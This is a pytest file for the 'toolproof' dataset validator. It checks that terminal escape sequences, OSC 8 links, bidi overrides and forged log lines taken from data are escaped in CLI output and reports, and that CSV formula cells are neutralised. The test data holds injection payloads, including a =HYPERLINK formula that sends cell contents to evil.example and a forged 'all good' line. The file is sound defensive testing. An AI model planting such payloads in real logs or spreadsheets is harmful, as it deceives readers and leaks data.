"""Nothing injected (issue 17, items 9 and 10): control characters, ESC sequences, OSC 8 links,
bare CR/LF and bidi overrides from the data never reach a terminal, a CI log, the Markdown or
HTML report raw; CSV cells that a spreadsheet would run as a formula are neutralised."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from toolproof.cli import main
from toolproof.validator.safeio import csv_cell, escape_text

CLEAR = "\x1b[2J"
OSC8 = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
RLO = "\u202e"
FORGED = "\rdata.jsonl:1  all good\n"
EVIL = CLEAR + OSC8 + RLO + FORGED + "\x9b\x07"

# an undeclared tool (TP206) whose name carries the payload; an unknown role (TP004) too
RECORD = {
    "id": "r" + EVIL,
    "tools": [{"type": "function", "function": {"name": "ok", "description": "d",
                                                  "parameters": {"type": "object", "properties": {}}}}],
    "messages": [
        {"role": "user", "content": "hi" + EVIL},
        {"role": "wiz" + EVIL, "content": "x"},
        {"role": "assistant", "tool_calls": [{"type": "function", "function": {"name": "t" + EVIL, "arguments": {}}}]},
    ],
}


def _write(tmp_path: Path, name: str = "d.jsonl") -> Path:
    p = tmp_path / name
    p.write_text(json.dumps(RECORD) + "\n", encoding="utf-8")
    return p


def _clean(text: str) -> None:
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text and "\x9b" not in text
    assert RLO not in text
    assert "all good" not in text.split("\n") and not any(line.startswith("data.jsonl:1  all good") for line in text.splitlines())


def test_escape_text() -> None:
    assert escape_text("a\x1b[2Jb\r\nc\td\u202e") == "a\\x1b[2Jb\\r\\nc\td\\u202e"
    assert escape_text("plain café") == "plain café"


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_lint_output_is_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str) -> None:
    p = _write(tmp_path)
    assert main(["lint", "--format", fmt, str(p)]) == 1
    out, err = capsys.readouterr()
    _clean(out + err)
    assert "TP206" in out and "\\x1b[2J" in out  # shown, as an escape


def test_lint_rich_output_is_escaped(tmp_path: Path) -> None:
    from toolproof.validator.engine import lint_paths
    from toolproof.validator.reporters import render

    text = render(lint_paths([str(_write(tmp_path))]), "text", color=True)
    assert "\x1b[2J" not in text and "\x1b]8" not in text and RLO not in text and "\r" not in text


def test_fix_output_is_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    p = _write(tmp_path)
    main(["fix", str(p)])
    out, err = capsys.readouterr()
    _clean(out + err)
    assert "TP206" in out


def test_data_stats_output_is_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    p = _write(tmp_path)
    assert main(["data", "stats", str(p)]) == 0
    out, err = capsys.readouterr()
    _clean(out + err)
    assert "\\x1b" in out


def test_score_output_is_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    test = tmp_path / "test.jsonl"
    test.write_text(json.dumps({"id": "a" + EVIL, "category": "c" + EVIL, "messages": [{"role": "user", "content": "x"}],
                                "expected_calls": []}) + "\n")
    preds = tmp_path / "p.jsonl"
    preds.write_text(json.dumps({"id": "b" + EVIL, "output": "none"}) + "\n")
    main(["score", str(preds), "--data", str(test)])
    out, err = capsys.readouterr()
    _clean(out + err)
    assert "missing predictions" in out


@pytest.mark.parametrize("ext", [".md", ".html"])
def test_clean_reports_are_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str], ext: str) -> None:
    p = _write(tmp_path)
    report = tmp_path / f"r{ext}"
    # every record is quarantined: exit 1 (an empty output), and the error line is escaped too
    assert main(["clean", str(p), "-o", str(tmp_path / "o.jsonl"), "--report", str(report)]) == 1
    out, err = capsys.readouterr()
    _clean(out + err)
    assert "the output is empty" in err
    text = report.read_text(encoding="utf-8")
    assert RLO not in text and "\u2066" not in text
    if ext == ".md":
        assert "\x1b" not in text and "\r" not in text


# --------------------------------------------------------------------------- CSV (item 10)


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_csv_cell_neutralises_formulas(cell: str) -> None:
    assert csv_cell(cell).startswith("'")


@pytest.mark.parametrize("cell", ["plain", "a=b", "", 3, -2.5, None])
def test_csv_cell_leaves_other_values(cell: object) -> None:
    assert csv_cell(cell) == cell


def test_compare_summary_csv_is_neutralised(tmp_path: Path) -> None:
    from toolproof.compare import write_summary_csv

    p = write_summary_csv([{"arm": '=HYPERLINK("http://evil.example","x")', "n": 3, "accuracy": -0.5}], tmp_path / "s.csv")
    rows = list(csv.reader(p.open(newline="")))
    assert rows[1][0].startswith("'=") and rows[1][1] == "3" and rows[1][2] == "-0.5"


def test_eval_results_csv_is_neutralised(tmp_path: Path) -> None:
    """evaluate() with a stand-in model: the test record's id becomes a cell of results.csv."""
    from toolproof.evaluator.run import EvalConfig, evaluate, read_verdicts

    test = tmp_path / "test.jsonl"
    rid = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    test.write_text(json.dumps({"id": rid, "messages": [{"role": "user", "content": "x"}], "expected_calls": []}) + "\n")
    model, tok = _tiny()
    out = tmp_path / "results.csv"
    evaluate(EvalConfig(model="tiny", data=str(test), output=str(out), progress=False, max_new_tokens=2),
             model_and_tokenizer=(model, tok))
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert rows[0]["id"] == "'" + rid
    assert read_verdicts(out)[0][0] == "'" + rid


def _tiny():  # type: ignore[no-untyped-def]
    from tiny_model import tiny_model_dir
    from transformers import AutoModelForCausalLM, AutoTokenizer

    d = tiny_model_dir()
    return AutoModelForCausalLM.from_pretrained(d), AutoTokenizer.from_pretrained(d)


def test_inspect_output_is_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from tiny_model import tiny_model_dir

    p = tmp_path / "d.jsonl"
    p.write_text(json.dumps({"id": "x", "messages": [{"role": "user", "content": "hi" + EVIL},
                                                      {"role": "assistant", "content": "ok" + EVIL}]}) + "\n")
    main(["inspect", str(p), "--model", str(tiny_model_dir()), "--color", "never"])
    out, err = capsys.readouterr()
    _clean(out + err)
    assert "\\x1b[2J" in out and "\n" in out.strip()  # escaped payload; the template's own lines kept
